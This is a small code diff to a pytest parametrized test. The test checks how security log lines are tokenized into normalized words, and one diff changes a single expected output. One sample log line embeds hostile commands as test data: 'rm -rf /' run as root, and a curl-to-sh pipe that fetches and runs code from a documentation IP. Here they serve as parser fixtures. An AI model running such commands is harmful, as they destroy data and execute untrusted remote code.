@@ -178,7 +178,7 @@ def test_frameworks_rows_and_queries_alone_are_requests(text):
 @pytest.mark.parametrize(("text", "words"), [
     ("date=2031-03-01 time=10:11:12 cmd=show running-config user=bob src=203.0.113.7", "command show running config from publicip user"),
     ('level=info msg="ran \\"rm -rf /\\" as root" user=bob cmd="sh -c \\"curl http://203.0.113.9/a | sh\\"" src=203.0.113.7',
-     "ran rm rf as root command sh c curl http url publicip a sh from publicip user"),
+     "command sh c curl http url publicip a sh severity info ran rm rf as root from publicip user"),
     ('a="x" file="C:\\Temp\\" user=bob action=deleted', "user"),
     ("user=bob;action=login;result=failed;reason=bad password", "bad password"),
     ("User: bob, Action: login failed, Source IP: 203.0.113.7, Reason: Invalid password", "action login failed invalid password from publicip user"),
